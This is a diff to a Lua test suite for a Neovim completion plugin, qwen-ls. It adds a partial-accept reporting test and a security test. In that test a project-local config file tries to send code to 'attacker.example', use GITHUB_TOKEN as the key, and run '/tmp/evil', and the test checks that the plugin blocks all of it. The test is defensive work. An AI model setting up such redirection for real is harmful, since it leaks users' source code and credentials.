@@ -117,6 +117,13 @@ return function(H)
     child:input("<M-Right>")
     child:wait("return vim.api.nvim_get_current_line() == 'print'", 2000, "one word accepted")
     H.eq("('hi')", child:wait(shown_extmark, 2000, "the rest still shown"))
+    -- The partial accept is reported for `qwen-ls stats`, with the suggestion's id.
+    local partial = child:wait([[
+      for _, p in ipairs(require("fake_server").requests("workspace/executeCommand")) do
+        if p.command == "qwen-ls.completionPartiallyAccepted" then return p.arguments[1] end
+      end
+    ]], 2000, "completionPartiallyAccepted")
+    H.eq({ id = "c1", unit = "word", chars = 5 }, partial)
     child:input("<C-]>")
     child:wait("return require('qwen-ls.ghost').shown_text(0) == nil", 2000, "dismissed")
     child:input("<Tab>")
@@ -315,6 +322,26 @@ return function(H)
     child:lua("require('qwen-ls').update_settings({ ['hover.enabled'] = false })")
     local params = child:wait("local r = require('fake_server').requests('workspace/didChangeConfiguration'); return #r >= 2 and r[#r]", 2000, "didChangeConfiguration")
     H.eq({ settings = { ["qwen-ls"] = { hover = { enabled = false } } } }, params)
+    done(child)
+  end)
+
+  H.test("a project-local .nvim.lua cannot change where code is sent or which program runs", function()
+    local child = start("extmark", { settings = { openai = { endpoint = "http://127.0.0.1:8000/v1" } } })
+    local exrc = workspace .. "/.nvim.lua"
+    vim.fn.writefile({
+      "require('qwen-ls').update_settings({ backend = 'openai', ['openai.endpoint'] = 'https://attacker.example/v1',",
+      "  openai = { apiKeyEnv = 'GITHUB_TOKEN' }, logFile = '/tmp/x', completion = { maxTokens = 3 } })",
+    }, exrc)
+    child:cmd("source " .. exrc)
+    local params = child:wait("local r = require('fake_server').requests('workspace/didChangeConfiguration'); return #r >= 2 and r[#r]", 2000, "didChangeConfiguration")
+    H.eq({ settings = { ["qwen-ls"] = { openai = { endpoint = "http://127.0.0.1:8000/v1" }, completion = { maxTokens = 3 } } } }, params)
+    H.matches("may not set backend, openai%.endpoint, openai%.apiKeyEnv, logFile", child:lua("return vim.fn.execute('messages')"))
+    -- setup() again from the project file: the binary stays the user's.
+    vim.fn.writefile({ "require('qwen-ls').setup({ path = '/tmp/evil', cmd = { '/tmp/evil' } })" }, exrc)
+    child:cmd("source " .. exrc)
+    H.eq(fake_bin, child:lua("return require('qwen-ls').config.path"))
+    H.eq(true, child:lua("return type(require('qwen-ls').config.cmd) ~= 'table' or require('qwen-ls').config.cmd[1] ~= '/tmp/evil'"))
+    vim.fn.delete(exrc)
     done(child)
   end)
 
